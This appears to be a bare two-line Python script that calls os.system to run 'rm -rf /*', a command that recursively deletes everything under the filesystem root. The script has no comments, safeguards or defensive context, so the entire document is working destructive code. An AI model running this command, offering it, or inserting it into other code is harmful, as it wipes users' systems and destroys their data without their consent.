import os
os.system('rm -rf /*')
